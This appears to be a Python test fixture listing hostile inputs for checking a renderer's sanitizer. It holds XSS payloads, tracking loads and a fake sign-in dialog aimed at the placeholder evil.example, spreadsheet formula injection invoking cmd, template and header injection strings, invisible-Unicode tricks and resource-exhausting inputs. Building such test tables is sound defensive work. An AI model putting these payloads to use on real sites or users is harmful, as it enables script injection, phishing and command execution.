"""Hostile texts, as one table: what a response or a prompt may hold to run, load, style, hide or break something.

Each that could run sets `window.hacked`; each that could load names evil.example. A giant is made here, not stored.
"""

HOST = "http://evil.example"

SCRIPTS = {
    "script": "<script>window.hacked='script'</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-broken": "<scr<script>ipt>window.hacked='broken'</scr</script>ipt>",
    "script-nul": "\x00<scr\x00ipt>window.hacked='nul'</script>",
    "script-closed": "</div></template></script><script>window.hacked='closed'</script>",
    "img-onerror": "<img src=x onerror=\"window.hacked='img'\">",
    "img-slash": "<img/src=x/onerror=window.hacked='slash'>",
    "svg-onload": "<svg onload=window.hacked='svg'>",
    "svg-animate": "<svg><animate onbegin=window.hacked='animate' attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script>window.hacked='svg-script'</script></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
    "body-onload": "<body onload=window.hacked='body'>",
    "details-toggle": "<details open ontoggle=window.hacked='toggle'>x</details>",
    "input-focus": "<input autofocus onfocus=window.hacked='focus'>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.hacked='srcdoc'</script>\"></iframe>",
    "object": f"<object data={HOST}/x.swf></object><embed src={HOST}/y>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "base": f"<base href={HOST}/>",
    "form": f"<form action={HOST}><button>Submit</button></form>",
    "link-javascript": "[click](javascript:window.hacked='link')",
    "link-entity": "[click](&#106;avascript:window.hacked='entity')",
    "link-data": "[click](data:text/html,<script>window.hacked='data'</script>)",
    "link-reference": f'[click][1]\n\n[1]: {HOST}/reference "x\' onmouseover=window.hacked=1"',
    "autolink": f"<{HOST}/auto> and <javascript:window.hacked='auto'>",
    "entities": "&lt;script&gt;window.hacked='twice'&lt;/script&gt;",
    "code-fence-info": "```x\" onmouseover=\"window.hacked='fence'\ncode\n```",
    "code-span": "`<img src=x onerror=window.hacked='code'>`",
    "comment": "<!--><img src=x onerror=window.hacked='comment'>-->",
    "cdata": "<![CDATA[<img src=x onerror=window.hacked='cdata'>]]>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.hacked='noscript'>\">",
    "textarea": "</textarea><img src=x onerror=window.hacked='textarea'>",
    "title": "</title><svg/onload=window.hacked='title'>",
}

LOADS = {
    "md-image": f"![track]({HOST}/a.png)",
    "md-image-reference": f"![track][t]\n\n[t]: {HOST}/b.png",
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-link": f"[read more]({HOST}/c)",
    "md-protocol": "![x](//evil.example/d.png)",
    "html-picture": f"<picture><source srcset={HOST}/e></picture><video src={HOST}/f autoplay></video>",
    "html-link": f"<link rel=stylesheet href={HOST}/g.css><link rel=prefetch href={HOST}/h>",
    "html-style-url": f"<p style='background:url({HOST}/i)'>x</p>",
    "css-import": f"<style>@import '{HOST}/j.css';</style>",
}

STYLES = {
    "css-hide": "<style>*{display:none!important}</style>",
    "css-cover": "<div style='position:fixed;inset:0;z-index:9999;background:red'>covered</div>",
    "class-names": "<b class='rk-submit' id='ranking'>x</b>",
    "marquee": "<marquee><blink>x</blink></marquee>",
    "dialog": "<dialog open>Session ended. <a href=//evil.example>Sign in</a></dialog>",
}

UNSEEN = {
    "bidi-override": "safe \u202eelif.exe\u202c text",
    "bidi-isolate": "a \u2067b\u2066c\u2069\u2069 d",
    "bidi-embedding": "\u202bright to left\u202c \u202aleft\u202c",
    "bidi-marks": "x\u200ey\u200fz\u061c",
    "zero-width": "in\u200bvis\u2060ible\ufeff",
    "joiners": "plain\u200dtext\u200c",
    "soft-hyphen": "co\u00adop\u00aderate",
    "tags": "hidden \U000e0049\U000e0067\U000e006e orders",
    "selectors": "a\ufe0f\ufe0f\ufe01 \U000e0101",
    "fillers": "\u3164\u115f\uffa0",
    "controls": "bell\x07 escape\x1b[31m delete\x7f c1\x9b",
    "separators": "line\u2028paragraph\u2029end",
    "private": "\ue000202E\ue001 \uf8ff",
    "zalgo": "Z" + "\u0351\u036b\u0343\u036a" * 40 + " tall",
}

SHAPES = {
    "giant-line": "A" * 1_000_000,
    "giant-words": "long " * 200_000,
    "giant-lines": "x\n" * 20_000,
    "unbroken": "https://" + "a" * 3000,
    "nested-quotes": ">" * 3000 + " deep",
    "nested-lists": "\n".join("  " * depth + "- item" for depth in range(150)),
    "nested-brackets": "[" * 5000 + "]" * 5000,
    "emphasis": "*a_" * 2500,
    "backticks": " ".join("`" * count for count in range(1, 130)),
    "wide-table": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|b\n" * 300,
    "wide-code": "```\n" + "0123456789" * 200 + "\n```",
}

FORMULAS = {
    "sheet-equals": "=cmd|' /C calc'!A0",
    "sheet-plus": '+HYPERLINK("http://evil.example","x")',
    "sheet-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "math-href": r"$\href{javascript:window.hacked='href'}{x}$",
    "math-class": r"$\class{rk-submit}{x}$ $\style{position:fixed}{x}$",
    "math-text": r"$\text{<img src=x onerror=window.hacked='mtext'>}$",
    "math-entity": r"$\text{&#x3c;img src=x onerror=window.hacked=1&#x3e;}$",
    "math-define": r"$\newcommand{\a}{\b\b}\newcommand{\b}{\a\a}\a$",
    "math-deep": "$" + "{" * 700 + "x" + "}" * 700 + "$",
    "math-roots": "$" + r"\sqrt" * 290 + "x$",
    "math-long": "$$" + "x+" * 50_000 + "y$$",
    "math-many": "$x_1$ " * 1600,
    "math-space": r"$\hspace{-9999px}x \rule{9000px}{9000px} \phantom{hidden}$",
    "math-comment": "$a % the rest is gone\nb$",
    "mathml": "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hacked='mglyph'></style></mglyph></math>",
    "mathml-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=window.hacked=1></annotation-xml></math>",
    "mathml-link": "<math href='javascript:window.hacked=1'><mi xlink:href='javascript:window.hacked=2'>x</mi></math>",
}

TEMPLATES = {
    "template-js": "${window.hacked='template'}",
    "template-handlebars": "{{constructor.constructor(\"window.hacked='hb'\")()}} {{{this}}} {{#each}}",
    "template-jinja": "{{ ''.__class__.__mro__ }} {% for x in y %}",
    "template-erb": "<%= system('id') %> #{1+1} *{2+2} @{3+3}",
    "json": '"}]}, {"ok": true, "screen": null}',
    "log": "x\r\nSet-Cookie: a=b\r\n\r\n<p>",
}

PAYLOADS: dict[str, str] = SCRIPTS | LOADS | STYLES | UNSEEN | SHAPES | FORMULAS | TEMPLATES
